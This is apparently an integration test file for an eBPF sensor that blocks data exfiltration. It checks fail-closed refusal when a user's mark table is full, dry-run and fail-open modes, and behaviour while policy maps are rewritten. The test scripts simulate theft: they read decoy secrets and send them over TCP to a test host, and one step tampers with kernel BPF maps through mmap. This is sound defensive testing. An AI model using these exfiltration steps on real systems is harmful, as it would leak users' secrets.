#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""FailClosed=yes: what the sensor cannot follow is refused, beside honest programs that go on. A user fills its share
of the table of marks, and the policy seems to change all the time."""

import contextlib
import mmap
import os
import shutil
import struct
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import bpf_objects
import harness
import varlink
from cases import Scene, cases
from crowd import Crowd, as_user
from harness import kernel_version, program, touches
from net import HOST_V4
from tap import require, require_equal

CLASS = "test-closed"
FLOODER, OTHER = 61200, 61201
MARKS_MAX = 256
# More than a cgroup of one user has: an eighth of nine tenths.
SLEEPERS = MARKS_MAX // 8 + 8
# Reads the file, and has a child connect when a line arrives.
PARENT = """
import os, socket, sys
open(sys.argv[1], "rb").read()
print("read", flush=True)
sys.stdin.readline()
child = os.fork()
if child == 0:
    try:
        socket.create_connection((sys.argv[2], 443)).sendall(b"secret")
    except PermissionError:
        os._exit(3)
    os._exit(0)
print(os.waitpid(child, 0)[1])
"""


class Stage(Scene):
    def __init__(self, net, home):
        super().__init__(net, home)
        self.places = f"{os.fsdecode(home.root)}/closed"
        os.makedirs(self.places)
        for directory in (home.root, home.root + b"/home", home.path, home.ssh, self.places):
            os.chmod(directory, 0o755)
        self.honest = f"{self.directory}/honest"
        shutil.copy(program("technique-out-tcp"), self.honest)
        # Before 5.19 the sensor fentry attaches what refuses when it starts, or not at all.
        self.later = kernel_version() >= (5, 19)
        self.write(FailClosed="no" if self.later else "yes")

    def write(self, enforcement="", **settings):
        settings = {"Action": "deny", "FailClosed": "yes", **settings}
        self.write_policy(harness.policy_class(CLASS, [f"{self.places}/**"], **settings)
                          + harness.policy_allow("test-honest", self.honest, [CLASS], passes="nothing")
                          + f"[Correlator]\nMaxMarks={MARKS_MAX}\n" + enforcement)

    def load(self, *args, **kwargs):
        self.write(*args, **kwargs)
        require("policy reloaded" in self.bw.reload(), "reload")

    def decoy(self, user):
        path, secret = self.home.decoy(os.path.join(os.fsencode(self.places), b"secret-%d" % time.monotonic_ns()))
        os.chown(path, user, user)
        return path, secret

    def steal(self, user, exe=None):
        path, secret = self.decoy(user)
        result = self.net.run([exe or program("technique-out-tcp"), "blocking", path, HOST_V4, "443"], **as_user(user))
        return path, secret, result

    def status(self):
        with varlink.Connection(self.socket) as client:
            return client.call("GetStatus")

    def opens(self):
        """Whether the sensor can refuse an open."""
        return self.status()["sensor"] != "tracepoint"

    def crowd(self):
        """The flooder's share is full, by files of another class."""
        key, _ = self.home.key()
        os.chown(key, FLOODER, FLOODER)
        return Crowd(self.net, key, "sleepers", SLEEPERS, **as_user(FLOODER))


def alert_of(stage, path, **wanted):
    """Of the file or, as a suspicion names other files, of its class by the flooder."""
    def fits(a):
        return (touches(a, path) or (a["suspect"] and CLASS in a["classes"])) and \
            all(a[k] == v for k, v in wanted.items())
    return stage.bw.wait_alert(fits, f"alert of {path}, {wanted}")


def full(stage):
    stage.load()
    enforcement = stage.status()["enforcement"]
    require_equal(enforcement["fail_closed"], 1, "classes that fail closed")
    require(not any("share of their user" in what for what in enforcement["not_refused"]), enforcement)
    with stage.crowd():
        path, _, result = stage.steal(FLOODER)
        require(result.returncode != 0, "the thief was not refused")
        if stage.opens():
            require("Permission denied" in result.stderr, f"the thief: {result.stderr}")
            alert = alert_of(stage, path, action="denied")
            require_equal(alert["destination"]["act"], "open", "what was refused")
            require(any("FailClosed=yes" in reason["text"] for reason in alert["reasons"]), f"{alert['reasons']}")
        else:
            require(alert_of(stage, path, action="denied")["suspect"], "it is tracked")
        # Beside it: a program that a rule names, and the theft of a user whose share is not full.
        path, secret, result = stage.steal(FLOODER, stage.honest)
        require_equal(result.returncode, 0, f"the allowed program\n{result.stderr}")
        stage.net.sink.wait_arrived(secret)
        stage.bw.expect_no_alert(lambda a: touches(a, path), stage.net, stage.home, "an allowed program")
        path, _, result = stage.steal(OTHER)
        require(result.returncode != 0, "another user's thief was not refused")
        require_equal(stage.alert(path, action="denied")["destination"]["act"], "connect", "what was refused")


def received(stage):
    """The data is there before the share is full, and reaches a process that cannot be marked: its egress is refused,
    and it gets no signal, as it is only suspected."""
    stage.load(Action="kill")
    path, _ = stage.decoy(FLOODER)
    process = stage.net.popen(["/usr/bin/python3", "-c", PARENT, path, HOST_V4], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True, **as_user(FLOODER))
    require_equal(process.stdout.readline(), "read\n", "the parent")
    with stage.crowd():
        out, _ = process.communicate("\n", timeout=60)
        require_equal(os.waitstatus_to_exitcode(int(out)), 3, "the child's exit status")
        alert = alert_of(stage, path, action="denied", suspect=True)
        require("was refused a connection to" in alert["summary"], alert["summary"])
        _, _, result = stage.steal(FLOODER, stage.honest)
        require_equal(result.returncode, 0, f"the allowed program\n{result.stderr}")


def dry_run(stage):
    stage.load("[Enforcement]\nEnabled=dry-run\n")
    with stage.crowd():
        path, secret, result = stage.steal(FLOODER)
        require_equal(result.returncode, 0, f"the thief\n{result.stderr}")
        stage.net.sink.wait_arrived(secret)
        alert_of(stage, path, action="would-deny")


def fails_open(stage):
    stage.load(FailClosed="no")
    require(any("share of their user" in what for what in stage.status()["enforcement"]["not_refused"]), "status")
    with stage.crowd():
        path, secret, result = stage.steal(FLOODER)
        require_equal(result.returncode, 0, f"the thief\n{result.stderr}")
        stage.net.sink.wait_arrived(secret)
        require(alert_of(stage, path, action="not-denied")["suspect"], "it is tracked")


@contextlib.contextmanager
def changing_policy():
    """The tables of the policy are being written, as far as the programs know (struct bw_table, seq)."""
    tables = []
    for number, fd in bpf_objects.opened("map"):
        info = bpf_objects.info(fd)
        if info[24:40].split(b"\0")[0] != b"bw_table":
            continue
        # struct bpf_map_info: type, id, key_size, value_size, max_entries
        _, found, _, size, entries = struct.unpack_from("5I", info)
        require_equal(found, number, "the map's id")
        stride = (size + 7) // 8 * 8
        memory = mmap.mmap(fd, (entries * stride + mmap.PAGESIZE - 1) // mmap.PAGESIZE * mmap.PAGESIZE)
        tables += [(memory, i * stride) for i in range(entries)]
    require(tables, "no table of the policy")
    before = [memory[at:at + 4] for memory, at in tables]
    for (memory, at), seq in zip(tables, before):
        memory[at:at + 4] = struct.pack("I", struct.unpack("I", seq)[0] | 1)
    try:
        yield
    finally:
        for (memory, at), seq in zip(tables, before):
            memory[at:at + 4] = seq


def busy(stage):
    for closed in ("yes", "no"):
        stage.load(FailClosed=closed)
        path, _ = stage.decoy(0)
        with changing_policy():
            result = subprocess.run(["cat", path], stdin=subprocess.DEVNULL, capture_output=True, text=True,
                                    check=False)
            honest = subprocess.run(["cat", "/etc/passwd"], stdin=subprocess.DEVNULL, capture_output=True, check=False)
        require_equal(honest.returncode, 0, "a file without a class")
        refused = closed == "yes" and stage.opens()
        require_equal("Permission denied" in result.stderr, refused, f"FailClosed={closed}: {result.stderr}")
        if refused:
            stage.alert(path, action="denied")


def ended(stage):
    stage.bw.stop()
    stage.bw.require_no_loss(("lost", "policy_busy", *harness.preemption_losses()))


def main():
    with cases() as (t, net, home):
        stage = Stage(net, home)
        stage.alert = lambda path, **wanted: stage.bw.wait_alert(
            lambda a: touches(a, path) and all(a[k] == v for k, v in wanted.items()), f"alert of {path}, {wanted}")
        with stage.bw:
            t.case("the share of marks is full", full, stage)
            t.case("data reaches a process that cannot be marked", received, stage)
            t.case("Enabled=dry-run", dry_run, stage)
            t.case("FailClosed=no", fails_open, stage)
            t.case("the policy changes during each try", busy, stage)
            t.case("ends without loss", ended, stage)


if __name__ == "__main__":
    main()
